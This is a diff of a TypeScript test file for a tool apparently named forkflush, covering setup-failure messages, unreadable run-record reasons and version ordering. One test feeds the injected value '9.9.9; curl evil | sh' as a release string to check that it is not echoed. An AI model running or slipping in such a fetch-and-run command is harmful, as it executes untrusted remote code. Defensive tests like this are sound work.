@@ -182,7 +182,19 @@ describe('a setup failure', () => {
     const reason = unreadableRunReason('state.json: config: unknown key "egress"', '0.1.0', '0.2.0');
     const f = setupFailure(withOpening([0, 1, 2, 3].map(() => setupFailedResult(reason))));
     expect(f?.code).toBe(2);
-    expect(f?.message).toContain(`(${reason}), so no agent could work and the run stopped: fix what the reasons say`);
+    expect(f?.message).toContain(
+      `(${reason}), so no agent could work and the run stopped: update the worker Action as the reasons say, then start a new run`,
+    );
+    // Setup commands in the config do not change the advice: the worker never got to them.
+    const withCommands = withOpening(
+      [0, 1, 2, 3].map(() => setupFailedResult(reason)),
+      'setup:\n  commands: [npm ci]\n',
+    );
+    expect(setupFailure(withCommands)?.message).toContain('the run stopped: update the worker Action');
+    const install = 'the agent CLI could not be installed: npm ERR! network';
+    expect(setupFailure(withOpening([0, 1, 2, 3].map(() => setupFailedResult(install))))?.message).toContain(
+      'the run stopped: fix what the reasons say (the agent CLI install, or the worker)',
+    );
   });
 
   it('is not a branch that tried when the opening round is judged for a grader that scores nothing', () => {
@@ -268,22 +280,45 @@ describe("the patterns that keep setup's outputs out of a result", () => {
 describe('a run record the worker cannot read', () => {
   it('is version skew when a newer release saved it: the reason names both releases and the fix', () => {
     expect(unreadableRunReason('state.json: version: written by a newer forkflush', '0.1.0', '0.2.0')).toBe(
-      "this worker Action is forkflush 0.1.0, older than the app (forkflush 0.2.0) that wrote the run's record, " +
-        "and cannot read it (state.json: version: written by a newer forkflush): use the worker Action of the app's release " +
+      "this worker Action cannot read the run's record: it is forkflush 0.1.0, older than the app (forkflush 0.2.0) " +
+        "that wrote it (state.json: version: written by a newer forkflush); use the worker Action of the app's release " +
         '(uses: …/forkflush@v0.2.0 in the worker workflow)',
     );
   });
 
   it('is only the reason when the record says no release, or one not newer', () => {
-    const plain = "this worker Action (forkflush 0.2.0) cannot read the run's record: run.json: issue: missing";
+    const plain = "this worker Action cannot read the run's record (forkflush 0.2.0): run.json: issue: missing";
     expect(unreadableRunReason('run.json: issue: missing', '0.2.0', null)).toBe(plain);
+    // What the record says is not a release is not repeated as one.
+    expect(unreadableRunReason('run.json: issue: missing', '0.2.0', '9.9.9; curl evil | sh')).toBe(plain);
+    expect(unreadableRunReason('run.json: issue: missing', '0.2.0', `9.9.9-${'x'.repeat(200)}`)).toBe(plain);
     expect(unreadableRunReason('run.json: issue: missing', '0.2.0', '0.2.0')).toBe(plain);
     expect(unreadableRunReason('run.json: issue: missing', '0.2.0', '0.1.9')).toBe(plain);
   });
 
   it('orders releases by number, a pre-release before its release', () => {
-    const sorted = ['0.10.0', '0.2.0', '1.0.0', '1.0.0-rc.1', '0.2.0-beta', '0.9.9', 'v1.0.1'].sort(compareVersions);
-    expect(sorted).toEqual(['0.2.0-beta', '0.2.0', '0.9.9', '0.10.0', '1.0.0-rc.1', '1.0.0', 'v1.0.1']);
+    const sorted = [
+      '0.10.0',
+      '0.2.0',
+      '1.0.0',
+      '1.0.0-rc.10',
+      '1.0.0-rc.9',
+      '1.0.0-rc',
+      '0.2.0-beta',
+      '0.9.9',
+      'v1.0.1',
+    ];
+    expect(sorted.sort(compareVersions)).toEqual([
+      '0.2.0-beta',
+      '0.2.0',
+      '0.9.9',
+      '0.10.0',
+      '1.0.0-rc',
+      '1.0.0-rc.9',
+      '1.0.0-rc.10',
+      '1.0.0',
+      'v1.0.1',
+    ]);
     expect(compareVersions('1.2', '1.2.0')).toBe(0);
   });
 });
